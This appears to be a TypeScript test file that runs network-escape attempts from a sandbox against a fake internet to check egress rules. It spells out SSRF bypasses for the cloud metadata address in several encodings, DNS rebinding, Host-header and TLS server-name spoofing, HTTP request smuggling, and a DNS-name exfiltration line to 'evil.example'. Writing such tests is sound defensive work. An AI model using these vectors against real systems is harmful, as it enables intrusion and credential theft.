import type { FakeInternet, Zone } from '../support/fake-internet.ts';

/** One way to reach something, tried inside a sandbox. */
export interface Attempt {
  what: string;
  /** Shell line. It prints what {@link FakeInternet} answered, where it answered. */
  run: string;
  /** Text that shows that it got through. Without: it must not get through anywhere. */
  reaches?: string;
  /** Text of a refusal that has to be seen. */
  says?: string;
}

/** Ports and addresses of the machine under test. */
export interface Places {
  internet: FakeInternet;
  /** Gateway of the sandbox: the server's service address. */
  service: string;
  /** An address of the host on its own network. */
  host: string;
  /** Port of a server of the host that listens on all addresses. */
  hostPort: number;
  /** The same for a server whose port the operator opened to sandboxes. */
  openedPort: number;
  /** Port of the API. */
  apiPort: number;
  neighbour: string;
}

/** Names of the fake internet. `site`, `cdn` and `evil` share an address, as sites behind a CDN do. */
export function zone({ addresses, private: hidden, metadata, dns }: FakeInternet): Zone {
  const gateway = dns.replace(/\.53$/, '.1');
  const forever = (address: string): string[][] => [[address]];
  return {
    'site.example': forever(addresses.a),
    'cdn.shared.example': forever(addresses.a),
    'evil.example': forever(addresses.a),
    'other.example': forever(addresses.b),
    'block.example': forever(addresses.c),
    'proxy.shared.example': forever(addresses.b),
    'private.shared.example': forever(hidden),
    'metadata.shared.example': forever(metadata),
    'loopback.shared.example': forever('127.0.0.1'),
    'host.shared.example': forever(gateway),
    'mixed.shared.example': [[addresses.b, hidden]],
    'rebind.shared.example': [[addresses.b], [hidden]],
    'private.example': forever(hidden),
    'metadata.example': forever(metadata),
    'rebind.example': [[addresses.b], [hidden]],
  };
}

/** `site.example`, type A, with its length in front, as DNS has it over TCP. */
const DNS_QUESTION =
  '\\x00\\x1e\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04site\\x07example\\x00\\x00\\x01\\x00\\x01';

const curl = (args: string): string => `curl -sSk -m 5 ${args} 2>&1`;

/** A line of Python that opens a connection and prints what comes back. */
function python(...lines: string[]): string {
  const program = ['import socket,ssl,time', ...lines].join('\n');
  return `timeout 10 python3 -c '${program}' 2>&1 | tail -n 1`;
}

function udp(address: string, port: number, text = 'reached'): string {
  return python(
    's=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)',
    's.settimeout(1.5)',
    `s.connect(("${address}",${port}))`,
    `s.send(b"${text}")`,
    'print(s.recv(2000).decode("latin1"))',
  );
}

function raw(address: string, port: number, text: string): string {
  return python(
    `s=socket.create_connection(("${address}",${port}),4)`,
    `s.sendall(b"${text}")`,
    's.settimeout(2)',
    'out=b""',
    'try:',
    '  while True:',
    '    d=s.recv(4000)',
    '    if not d: break',
    '    out+=d',
    'except TimeoutError: pass',
    'print(out.decode("latin1"))',
  ).replace('tail -n 1', 'cat');
}

/** A TLS handshake with a server name that need not be the one that was looked up; "" for none. */
function tls(address: string, port: number, serverName: string, silenceSeconds = 0): string {
  return python(
    `s=socket.create_connection(("${address}",${port}),4)`,
    `time.sleep(${silenceSeconds})`,
    'c=ssl._create_unverified_context()',
    `t=c.wrap_socket(s,server_hostname=${serverName === '' ? 'None' : `"${serverName}"`})`,
    't.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")',
    'out=b""',
    'try:',
    '  while True:',
    '    d=t.recv(4000)',
    '    if not d: break',
    '    out+=d',
    'except (OSError,ssl.SSLError): pass',
    'print(out.decode("latin1").strip())',
  );
}

/** With `egress: "all"`: the public internet, and nothing else. */
export function openAttempts({
  internet,
  service,
  host,
  hostPort,
  openedPort,
  apiPort,
  neighbour,
}: Places): Attempt[] {
  const { a, b } = internet.addresses;
  const metadata = (form: string, at: string): Attempt => ({
    what: `metadata, ${form}`,
    run: curl(`'http://${at}/'`),
  });
  return [
    { what: 'a public site by HTTP', run: curl('http://site.example/'), reaches: a },
    { what: 'a public site by TLS', run: curl('https://site.example/'), reaches: a },
    { what: 'a public address by UDP', run: udp(a, 7), reaches: 'reached' },
    { what: 'an SSH server', run: raw(a, 22, ''), reaches: 'SSH-2.0-fake' },
    {
      what: 'a host port that the operator opened',
      run: curl(`http://host.banata.internal:${openedPort}/`),
      reaches: 'host',
    },
    { what: 'a private address', run: curl(`http://${internet.private}/`) },
    { what: 'a private address by TLS', run: curl(`https://${internet.private}/`) },
    { what: 'a private address by UDP', run: udp(internet.private, 7) },
    { what: 'a name with a private address', run: curl('http://private.example/') },
    {
      what: 'a name that turns private (rebinding)',
      run: `${curl('http://rebind.example/first')} >/dev/null; sleep 1; ${curl('http://rebind.example/second')}`,
    },
    {
      what: 'a redirect to a private address',
      run: curl(`-L 'http://site.example/redirect?to=http://${internet.private}/'`),
    },
    metadata('plain', internet.metadata),
    metadata('decimal', '2852039166'),
    metadata('octal', '0251.0376.0251.0376'),
    metadata('hexadecimal', '0xa9fea9fe'),
    metadata('hexadecimal parts', '0xa9.0xfe.0xa9.0xfe'),
    metadata('two parts', '169.16689662'),
    metadata('IPv6-mapped', '[::ffff:169.254.169.254]'),
    metadata('IPv6-mapped, hexadecimal', '[::ffff:a9fe:a9fe]'),
    metadata('NAT64', '[64:ff9b::a9fe:a9fe]'),
    metadata('IPv6 form of AWS', '[fd00:ec2::254]'),
    { what: 'metadata by a name', run: curl('http://metadata.example/') },
    {
      what: 'metadata by a redirect',
      run: curl(`-L 'http://site.example/redirect?to=http://${internet.metadata}/'`),
    },
    { what: 'metadata by UDP', run: udp(internet.metadata, 7) },
    {
      what: 'metadata through a proxy variable',
      run: `http_proxy=http://${internet.metadata}:80 ${curl('http://site.example/')}`,
    },
    { what: 'a public IPv6 address', run: curl(`'http://[${internet.ipv6}]/'`) },
    { what: 'the host on its own network', run: curl(`http://${host}:${hostPort}/`) },
    {
      what: 'the host under its public address',
      run: curl(`http://${internet.dns.replace(/\.53$/, '.1')}:${hostPort}/`),
    },
    { what: 'a host port on the service address', run: curl(`http://${service}:${hostPort}/`) },
    { what: 'a host port by its alias', run: curl(`http://host.banata.internal:${hostPort}/`) },
    { what: 'the API on the service address', run: curl(`http://${service}:${apiPort}/healthz`) },
    { what: 'the API on the loopback', run: curl(`http://127.0.0.1:${apiPort}/healthz`) },
    { what: 'the API on 0.0.0.0', run: curl(`http://0.0.0.0:${apiPort}/healthz`) },
    { what: 'the API on IPv6-mapped loopback', run: curl(`'http://[::ffff:127.0.0.1]:${apiPort}/healthz'`) },
    { what: 'PostgreSQL on the service address', run: raw(service, 5432, '') },
    { what: 'the egress proxy itself', run: curl(`-x http://${service}:7073 http://site.example/`) },
    { what: 'another sandbox’s daemon', run: curl(`http://${neighbour}:7080/healthz`) },
    { what: 'another sandbox’s server', run: curl(`http://${neighbour}:8000/`) },
    { what: 'another sandbox by UDP', run: udp(neighbour, 7) },
    { what: 'broadcast', run: udp('255.255.255.255', 7) },
    { what: 'multicast', run: udp('224.0.0.1', 7) },
    { what: 'the reserved range', run: curl('http://240.0.0.1/') },
    { what: 'another public address by TLS without a name', run: curl(`https://${b}/`), reaches: b },
  ];
}

/** With `allow: ["site.example", "*.shared.example", <address c>]`, `deny: ["evil.shared.example"]`. */
export function ruledAttempts({ internet, service, hostPort, openedPort, neighbour }: Places): Attempt[] {
  const { a, b, c } = internet.addresses;
  const get = (path: string, host: string): string => `GET ${path} HTTP/1.1\\r\\nHost: ${host}\\r\\n`;
  return [
    { what: 'an allowed name by HTTP', run: curl('http://site.example/'), reaches: a },
    { what: 'an allowed name by TLS', run: curl('https://site.example/'), reaches: a },
    { what: 'an allowed name in capitals, with a dot', run: curl('http://SITE.example./'), reaches: a },
    { what: 'a wildcard’s name', run: curl('https://cdn.shared.example/'), reaches: a },
    { what: 'an allowed name on another port', run: curl('https://site.example:8443/'), reaches: a },
    { what: 'an allowed name by SSH', run: raw('site.example', 22, ''), reaches: 'SSH-2.0-fake' },
    { what: 'an allowed address by HTTP', run: curl(`http://${c}/`), reaches: c },
    { what: 'an allowed address by TLS without a name', run: tls(c, 443, '') },
    { what: 'an allowed address by UDP', run: udp(c, 7), reaches: 'reached' },
    {
      what: 'a WebSocket to an allowed name',
      run: raw(
        'site.example',
        80,
        `${get('/', 'site.example')}Connection: Upgrade\\r\\nUpgrade: echo\\r\\n\\r\\n`,
      ),
      reaches: '101 Switching',
    },
    { what: 'a name that is not allowed', run: curl('https://other.example/'), says: 'resolve host' },
    { what: 'a name that is denied', run: curl('https://evil.shared.example/'), says: 'resolve host' },
    {
      what: 'data in a name that is not allowed',
      run: curl('http://c2VjcmV0.evil.example/'),
      says: 'resolve host',
    },
    { what: 'an address, by HTTP', run: curl(`http://${b}/`), says: 'refuse' },
    { what: 'an address, by TLS', run: curl(`https://${b}/`) },
    { what: 'the address of an allowed name, by TLS without a name', run: tls(a, 443, '') },
    { what: 'the address of an allowed name, as the host', run: curl(`http://${a}/`), says: 'refuse' },
    {
      what: 'an address in decimal',
      run: curl(`http://${a.split('.').reduce((sum, part) => sum * 256 + Number(part), 0)}/`),
      says: 'refuse',
    },
    {
      what: 'another server name at an allowed name’s address (shared CDN)',
      run: tls(a, 443, 'evil.example'),
      says: 'denied',
    },
    { what: 'an allowed server name at another address', run: tls(b, 443, 'site.example'), reaches: a },
    { what: 'TLS with another name after a silence', run: tls('site.example', 8443, 'evil.example', 1) },
    {
      what: 'another Host header at an allowed name',
      run: curl("-H 'Host: evil.example' http://site.example/"),
      says: 'refuse',
    },
    {
      what: 'an allowed Host header at another address',
      run: curl(`-H 'Host: site.example' http://${b}/`),
      reaches: a,
    },
    {
      what: 'two Host headers',
      run: raw('site.example', 80, `${get('/', 'site.example')}Host: evil.example\\r\\n\\r\\n`),
      says: '40',
    },
    {
      what: 'another host in a second request',
      run: raw('site.example', 80, `${get('/1', 'site.example')}\\r\\n${get('/2', 'evil.example')}\\r\\n`),
      says: '403 Forbidden',
    },
    {
      what: 'an absolute target beside an allowed Host',
      run: raw('site.example', 80, `${get('http://evil.example/', 'site.example')}\\r\\n`),
      says: '403 Forbidden',
    },
    {
      what: 'a request hidden in another’s body',
      run: raw(
        'site.example',
        80,
        `POST / HTTP/1.1\\r\\nHost: site.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${get('/', 'evil.example')}\\r\\n`,
      ),
      says: '40',
    },
    {
      what: 'raw bytes in a path',
      run: raw('site.example', 80, `${get('/\\xff\\xfe', 'site.example')}\\r\\n`),
    },
    {
      what: 'raw bytes in a header',
      run: raw('site.example', 80, `${get('/', 'site.example')}X: \\x01\\r\\n\\r\\n`),
      says: '400',
    },
    { what: 'HTTP/2 without TLS', run: curl('--http2-prior-knowledge http://site.example/') },
    {
      what: 'a tunnel through an allowed proxy',
      run: curl('-x http://proxy.shared.example:8080 https://evil.example/'),
      says: '403',
    },
    {
      what: 'a proxy variable with an allowed proxy',
      run: `http_proxy=http://proxy.shared.example:8080 ${curl('http://evil.example/')}`,
      says: 'refuse',
    },
    {
      what: 'a proxy variable with a proxy’s address',
      run: `https_proxy=http://${b}:8080 ${curl('https://evil.example/')}`,
    },
    {
      what: 'an allowed name with a private address',
      run: curl('http://private.shared.example/'),
      says: 'resolve host',
    },
    {
      what: 'an allowed name with metadata’s address',
      run: curl('http://metadata.shared.example/'),
      says: 'resolve host',
    },
    {
      what: 'an allowed name with a loopback address',
      run: curl(`http://loopback.shared.example:${hostPort}/`),
      says: 'resolve host',
    },
    {
      what: 'an allowed name with an address of the host',
      run: curl(`http://host.shared.example:${hostPort}/`),
    },
    {
      what: 'an allowed name with a public and a private address',
      run: curl('http://mixed.shared.example/'),
      says: 'resolve host',
    },
    {
      what: 'an allowed name that turns private between two questions (rebinding)',
      run: curl('http://rebind.shared.example/'),
    },
    {
      what: 'private address under an allowed Host',
      run: curl(`-H 'Host: private.shared.example' http://${internet.private}/`),
    },
    {
      what: 'metadata under an allowed server name',
      run: tls(internet.metadata, 443, 'metadata.shared.example'),
    },
    { what: 'another resolver by UDP', run: udp(b, 53, 'reached') },
    { what: 'another resolver by TCP', run: raw(b, 53, DNS_QUESTION) },
    { what: 'DNS over HTTPS at an address', run: curl(`https://${b}/dns-query`) },
    { what: 'UDP to an allowed name’s address', run: udp(a, 7) },
    { what: 'QUIC to an allowed name’s address', run: udp(a, 443, '\\xc0\\x00\\x00\\x00\\x01reached') },
    { what: 'IPv6', run: curl(`'http://[${internet.ipv6}]/'`) },
    {
      what: 'a host port that the operator opened, without a rule',
      run: curl(`http://host.banata.internal:${openedPort}/`),
    },
    { what: 'the egress proxy itself', run: curl(`-x http://${service}:7073 http://site.example/`) },
    { what: 'another sandbox', run: curl(`-H 'Host: site.example' http://${neighbour}:8000/`) },
  ];
}

/** With `egress: "none"`. */
export function closedAttempts({ internet, service, neighbour }: Places): Attempt[] {
  const { a } = internet.addresses;
  return [
    {
      what: 'the model gateway',
      run: curl(`-o /dev/null -w 'gateway %{http_code}' http://${service}:7071/model/openai/v1/models`),
      reaches: 'gateway 4',
    },
    { what: 'a name', run: curl('http://site.example/'), says: 'resolve host' },
    { what: 'an address', run: curl(`http://${a}/`) },
    { what: 'an address by TLS', run: curl(`https://${a}/`) },
    { what: 'UDP', run: udp(a, 7) },
    { what: 'another resolver', run: udp(a, 53, 'reached') },
    { what: 'another sandbox', run: curl(`http://${neighbour}:8000/`) },
    { what: 'metadata', run: curl(`http://${internet.metadata}/`) },
  ];
}
